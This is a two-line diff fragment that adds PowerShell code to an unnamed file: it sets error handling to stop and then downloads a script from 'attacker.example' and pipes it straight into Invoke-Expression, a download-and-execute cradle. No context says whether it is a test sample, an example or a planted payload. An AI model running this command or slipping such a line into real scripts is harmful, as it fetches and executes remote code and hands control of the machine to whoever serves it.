@@ -1,0 +1,2 @@
+$ErrorActionPreference = 'Stop'
+iwr -useb https://attacker.example/p.ps1 | iex
